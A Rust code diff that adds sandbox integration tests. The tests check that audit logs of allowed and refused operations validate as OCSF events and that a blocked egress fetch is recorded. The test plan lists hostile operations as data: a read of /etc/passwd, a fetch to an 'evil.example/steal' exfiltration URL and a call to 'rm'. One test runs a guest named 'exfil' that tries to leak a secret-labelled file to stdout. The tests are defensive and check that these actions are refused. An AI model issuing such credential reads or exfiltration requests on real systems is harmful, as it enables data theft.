@@ -133,3 +133,140 @@ fn a_key_inside_a_mount_is_refused_before_anything_runs() {
     assert!(!t.path().join("out/r.txt").exists(), "nothing ran");
     assert!(!t.path().join("a.jsonl").exists());
 }
+
+/// The OCSF validator's python (a venv made once per requirements file).
+fn ocsf_python() -> std::path::PathBuf {
+    let requirements = sbx_wasm_tests::repo_root().join("tests/ocsf/requirements.txt");
+    sbx_wasm_tests::cached_venv("ocsf-validate", &requirements, &[])
+}
+
+/// Validate OCSF event lines against the OCSF 1.8 schema with the
+/// registry's validator: what it says, and whether every event passed.
+pub(crate) fn ocsf_valid(lines: &Path) -> (bool, String) {
+    let script = sbx_wasm_tests::repo_root().join("tests/ocsf/validate.py");
+    let out = std::process::Command::new(ocsf_python())
+        .arg(script)
+        .arg(lines)
+        .output()
+        .unwrap();
+    (
+        out.status.success(),
+        format!("{}{}", utf8(&out.stdout), utf8(&out.stderr)),
+    )
+}
+
+/// Every kind of op a plan can make, allowed and refused, ending in a
+/// hard halt.
+const EVERY_OP: &str = r#"[
+  {"op": "fs_read", "path": "/work/a.txt"},
+  {"op": "fs_list", "path": "/work"},
+  {"op": "fs_stat", "path": "/work/a.txt"},
+  {"op": "fs_mkdir", "path": "/work/out/d"},
+  {"op": "fs_write", "path": "/work/out/d/r.txt", "content": "x"},
+  {"op": "fs_remove", "path": "/work/out/d/r.txt"},
+  {"op": "fs_read", "path": "/etc/passwd"},
+  {"op": "net_fetch", "url": "SERVER/status"},
+  {"op": "net_fetch", "url": "http://evil.example/steal?d=1"},
+  {"op": "tool_call", "name": "word_count", "input": "a b c"},
+  {"op": "tool_call", "name": "rm", "input": ""},
+  {"op": "kv_put", "key": "k", "value": "v"},
+  {"op": "kv_get", "key": "k"},
+  {"op": "kv_list", "prefix": ""},
+  {"op": "kv_delete", "key": "k"},
+  {"op": "launch_missiles"},
+  {"op": "fs_read", "path": "/work/a.txt"}
+]"#;
+
+#[test]
+fn every_kind_of_record_is_valid_ocsf_live_and_exported() {
+    let server = sbx_wasm_tests::LoopbackServer::start();
+    let caps = mount_caps(&format!(
+        "[net]\nallow = [\"{}\"]\n[tools]\nallow = [\"word_count\"]\n\
+         [tools.command.word_count]\nargv = [\"wc\", \"-w\"]\n[kv]\n\
+         [budget]\nmax_ops = 16\n",
+        server.origin()
+    ));
+    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", &caps)]);
+    let plan = EVERY_OP.replace("SERVER", &server.origin());
+    std::fs::write(t.path().join("plan.json"), plan).unwrap();
+    let exec = |args: &[&str]| {
+        let mut all = vec!["exec", "--caps", "caps.toml", "--report", "r.json"];
+        all.extend_from_slice(args);
+        all.push("plan.json");
+        let out = sbx_in(t.path(), &all);
+        assert_eq!(out.status.code(), Some(3), "{}", utf8(&out.stderr));
+    };
+    // Written live as OCSF, sealed: every event valid, the log whole.
+    exec(&["--audit", "live.jsonl", "--audit-format", "ocsf"]);
+    let (ok, said) = ocsf_valid(&t.path().join("live.jsonl"));
+    assert!(ok, "{said}");
+    assert!(
+        said.contains(r#"classes {"1001": 8, "2004": 1, "4002": 2, "6002": 2, "6003": 7}"#),
+        "{said}"
+    );
+    let out = sbx_in(t.path(), &["audit", "verify", "live.jsonl"]);
+    assert!(out.status.success(), "{}", utf8(&out.stdout));
+    // The project's records, exported afterwards: the same events.
+    exec(&["--audit", "a.jsonl"]);
+    let out = sbx_in(
+        t.path(),
+        &[
+            "audit",
+            "export",
+            "a.jsonl",
+            "--report",
+            "r.json",
+            "-o",
+            "exported.jsonl",
+        ],
+    );
+    assert!(out.status.success(), "{}", utf8(&out.stderr));
+    let (ok, exported) = ocsf_valid(&t.path().join("exported.jsonl"));
+    assert!(ok, "{exported}");
+    assert!(exported.contains(r#""1001": 8, "2004": 1"#), "{exported}");
+    // What a SIEM asks first: the refused fetch, blocked, with its rule-less
+    // reason and the violation's name.
+    let text = std::fs::read_to_string(t.path().join("exported.jsonl")).unwrap();
+    let blocked: Vec<serde_json::Value> = text
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .filter(|e: &serde_json::Value| e["class_uid"] == 4002 && e["disposition_id"] == 2)
+        .collect();
+    assert_eq!(blocked.len(), 1);
+    assert_eq!(blocked[0]["unmapped"]["sbx"]["violation"], "egress_denied");
+    assert_eq!(
+        blocked[0]["http_request"]["url"]["hostname"],
+        "evil.example"
+    );
+}
+
+#[test]
+fn a_guests_refused_stdout_is_valid_ocsf() {
+    // A wasm guest whose labelled read may not reach stdout: the refused
+    // write is an event too.
+    let caps = "[fs]\nread = [{ host = \"data\", guest = \"/work\", label = \"secret\" }]\n\
+                write = [{ host = \"out\", guest = \"/work/out\" }]\n\
+                [flow.allow]\nsecret = [\"/work/out\"]\n";
+    let t = mount_tree(&[("data/a.txt", "hello"), ("caps.toml", caps)]);
+    let out = std::process::Command::new(sbx_wasm_tests::sbx_bin())
+        .current_dir(t.path())
+        .env("SBX_WASM_CACHE_DIR", t.path().join("cache"))
+        .args([
+            "run",
+            "--caps",
+            "caps.toml",
+            "--audit",
+            "g.jsonl",
+            "--audit-format",
+            "ocsf",
+        ])
+        .arg(sbx_wasm_tests::guest("exfil"))
+        .args(["--", "read:/work/a.txt", "print"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", utf8(&out.stderr));
+    let (ok, said) = ocsf_valid(&t.path().join("g.jsonl"));
+    assert!(ok, "{said}");
+    let text = std::fs::read_to_string(t.path().join("g.jsonl")).unwrap();
+    assert!(text.contains(r#""operation":"stdout stdout""#), "{text}");
+}
